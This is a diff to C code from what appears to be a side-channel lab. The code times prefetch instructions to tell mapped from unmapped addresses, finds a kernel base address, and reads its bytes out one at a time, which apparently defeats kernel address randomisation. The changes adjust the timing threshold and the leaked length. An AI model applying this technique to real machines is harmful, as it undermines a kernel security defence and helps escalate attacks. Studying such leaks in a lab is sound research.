@@ -7,6 +7,7 @@
  */
 #define LAB_OWN_RECEIVER
 #define PROBED 512
+#define MOST 8
 #include "lab.h"
 
 static const char ABOUT[] = "ring 0, and root by /proc/kallsyms";
@@ -15,7 +16,7 @@ static const char ABOUT[] = "ring 0, and root by /proc/kallsyms";
 #define SLOT 0x200000UL
 #define TIMES 4
 
-static u64 base;
+static u64 base, length;
 
 static u32 time_of_prefetch(u64 address)
 {
@@ -42,9 +43,9 @@ static void listen(void)
         nowhere[i] = time_of_prefetch(0x10000);  /* below any program: it is not */
     }
     u32 quick = median(there, SAMPLES), slow = median(nowhere, SAMPLES);
-    threshold = slow > quick + 3 ? (quick + slow + 1) / 2 : 0;
-    say_value("mapped", quick);
-    say_value("unmapped", slow);
+    threshold = slow > quick + quick / 8 + 2 ? (quick + slow + 1) / 2 : 0;
+    say_value("cached", quick);
+    say_value("flushed", slow);
     say_value("threshold", threshold);
 }
 
@@ -65,7 +66,8 @@ static void measure(void)
 static int prepare(u64 bytes)
 {
     probe[0] = 1;
-    if (!threshold || bytes > 8)
+    length = bytes;
+    if (!threshold)
         return 0;
     measure();
     for (u64 slot = 0; slot < PROBED && !base; slot++)
@@ -85,7 +87,7 @@ static void attempt(u64 index)
 
 static void receive(void)
 {
-    hits[base >> (56 - 8 * wanted) & 255]++;
+    hits[base >> 8 * (length - 1 - wanted) & 255]++; /* the low bytes, the highest of them first */
 }
 
 static void done(void)
